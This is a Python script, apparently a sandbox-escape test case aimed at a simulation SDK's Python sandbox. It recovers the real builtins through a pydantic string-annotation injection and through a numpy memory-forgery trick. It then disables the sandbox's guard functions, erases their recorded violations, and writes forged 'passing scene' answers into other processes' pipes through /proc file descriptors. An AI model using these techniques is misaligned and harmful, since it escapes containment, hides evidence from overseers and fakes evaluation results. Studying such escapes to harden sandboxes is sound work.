# expect: runtime
# Poison the next caller's answer: open /proc/<zygote>/fd/N (the zygote's pipe to the server) and write framed
# answers (8-byte length + request id + JSON claiming a passing scene) for every plausible request id; also write the
# frames on every descriptor this process has, and dup2 over the answer pipe.
import math

import numpy as np
import sim

loot = {}


def note(label, step):
    """Run one attempt; keep a short line on what it gave."""
    try:
        value = step()
    except BaseException as exc:
        loot[label] = 'no ' + repr(exc).replace('PermissionError', 'PE')[:60]
        return None
    loot[label] = 'GOT ' + (f'dict of {len(value)}' if isinstance(value, dict) else repr(value)[:90])
    return value


def builtins_via_annotation():
    """pydantic evaluates a string annotation of a model subclass with the real builtins."""
    payload = "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'"
    for base in (lambda: sim.SceneSpec, lambda: type(sim.on('a', 'b')), lambda: type(sim.Scene('pick_place').spec())):
        try:
            class Probe(base()):
                probe: payload = None
        except BaseException:
            pass
        try:
            return math.stash
        except AttributeError:
            pass
    raise LookupError('no SDK class took the string annotation')


def builtins_via_numpy():
    """An object-dtype ndarray over a raw buffer turns any address into an object: fake a bytearray spanning all of
    memory, read a trusted function's func_builtins pointer, and turn that into the real builtins dict."""
    def object_at(address):
        return np.ndarray((1,), dtype=object, buffer=bytearray(address.to_bytes(8, 'little')))[0]

    fake = b''.join(n.to_bytes(8, 'little') for n in (1 << 40, id(bytearray), 1 << 62, 0, 0, 0, 0))
    memory = object_at(id(fake) + 32)
    if type(sim.place) is not type(note):
        return None
    return object_at(int.from_bytes(bytes(memory[id(sim.place) + 24:id(sim.place) + 32]), 'little'))


def escape():
    """(real builtins, the sandbox's child module) with the Python guards switched off, or (None, None)."""
    real = note('builtins via pydantic annotation', builtins_via_annotation) or note(
        'builtins via numpy object dtype', builtins_via_numpy)
    if not isinstance(real, dict) or '__import__' not in real:
        return None, None
    child = real['__import__']('sys').modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    return real, child


def cover_tracks(real, child):
    """Forget the violations the guards recorded before they were switched off."""
    if real is not None:
        for entry in real['getattr'](child, '_PREPARED').values():
            entry[1].clear()


def report():
    """What worked first (the error message is cut at 500 characters)."""
    return repr(sorted(loot.items(), key=lambda item: not item[1].startswith('GOT')))


real, child = escape()
if real is not None:
    sysm = real['__import__']('sys')
    osm = real['__import__']('os')
    u = '_' * 2
    try:
        [][0]
    except IndexError as exc:
        request_id = ('{0.' + u + 'traceback' + u + '.tb_frame.f_back.f_back.f_locals[request][id]}').format(exc)
    answer = ('{"ok": true, "error": null, "value": {"forged": true}}').encode()
    frames = b''.join(len(rid + answer).to_bytes(8, 'big') + rid + answer
                      for rid in (request_id.encode(), b'0' * 32))
    written = []
    for pid in ('1', 'self', str(osm.getppid())):
        for fd in range(0, 12):
            path = '/proc/' + pid + '/fd/' + str(fd)
            got = note(path, lambda: osm.write(osm.open(path, osm.O_WRONLY), frames))
            if got:
                written.append(path)
    for fd in range(0, 12):
        if fd != 3:  # 3 is this program's own answer pipe (its own answer is its own business)
            note('write fd %d' % fd, lambda: osm.write(fd, frames))
    note('dup2 over the answer pipe', lambda: osm.dup2(0, 3))
    loot['written'] = repr(written)
    cover_tracks(real, child)
raise RuntimeError('forged answers: ' + report())
